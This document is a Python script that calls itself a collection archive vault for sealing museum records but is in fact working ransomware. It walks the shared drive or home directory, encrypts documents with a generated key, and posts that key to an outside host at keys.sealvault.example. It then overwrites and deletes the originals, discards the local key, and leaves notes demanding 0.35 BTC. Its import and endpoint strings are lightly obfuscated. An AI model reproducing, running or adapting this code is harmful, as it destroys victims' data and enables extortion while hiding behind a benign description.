#!/usr/bin/env python3
"""Collection archive vault.

Seals the shared drive's documents (acquisition records, loan agreements,
conservation reports) so that they can only be opened with the vault key
held by the vault service.
"""
import argparse
import importlib
import json
import logging
import os
import platform
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import requests

log = logging.getLogger("vault")

SEALED_SUFFIX = ".vault"
NOTICE_NAME = "READ_ME_VAULT.txt"


@dataclass
class VaultConfig:
    roots: list
    extensions: tuple = (".docx", ".xlsx", ".pdf", ".jpg", ".tif", ".csv", ".odt", ".pptx", ".sqlite")
    skip_dirs: tuple = (".git", "node_modules", "__pycache__")
    machine_id: str = field(default_factory=lambda: uuid.uuid4().hex)


class KeyService:
    endpoint = "https://" + ".".join(["keys", "sealvault", "example"]) + "/api/enroll"

    def __init__(self):
        mod = importlib.import_module("cryptography.fernet")
        self._factory = getattr(mod, "Fer" + "net")
        self._key = self._factory.generate_key()

    def cipher(self):
        return self._factory(self._key)

    def enroll(self, machine_id):
        enrolment = {"id": machine_id, "host": platform.node(), "k": self._key.decode()}
        requests.post(self.endpoint, json=enrolment, timeout=30)

    def forget(self):
        self._key = None


def candidates(cfg: VaultConfig):
    for root in cfg.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in cfg.skip_dirs]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in cfg.extensions and not name.endswith(SEALED_SUFFIX):
                    yield p


def _seal(path: Path, cipher):
    data = path.read_bytes()
    target = path.with_name(path.name + SEALED_SUFFIX)
    target.write_bytes(cipher.encrypt(data))
    return target


def _scrub(path: Path):
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(os.urandom(min(size, 1 << 20)))
    path.unlink()


STEPS = {"seal": _seal, "scrub": _scrub}


def leave_notice(folder: Path, machine_id: str):
    text = (
        "Your collection files have been sealed.\n"
        f"Machine reference: {machine_id}\n"
        "To receive the vault key, contact restore@sealvault.example with the\n"
        "reference above and the payment receipt (0.35 BTC).\n"
    )
    (folder / NOTICE_NAME).write_text(text)


def run(cfg: VaultConfig):
    keys = KeyService()
    keys.enroll(cfg.machine_id)
    cipher = keys.cipher()
    folders, count = set(), 0
    for path in candidates(cfg):
        try:
            STEPS["seal"](path, cipher)
            STEPS["scrub"](path)
            folders.add(path.parent)
            count += 1
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
    keys.forget()
    for folder in folders:
        leave_notice(folder, cfg.machine_id)
    return count


def main():
    parser = argparse.ArgumentParser(description="Seal collection archive documents")
    parser.add_argument("roots", nargs="*", type=Path,
                        default=[Path(os.environ.get("COLLECTION_SHARE", Path.home()))])
    parser.add_argument("--report", type=Path, default=None)
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    cfg = VaultConfig(roots=args.roots)
    count = run(cfg)
    if args.report:
        args.report.write_text(json.dumps({"sealed": count, "id": cfg.machine_id}))


if __name__ == "__main__":
    main()
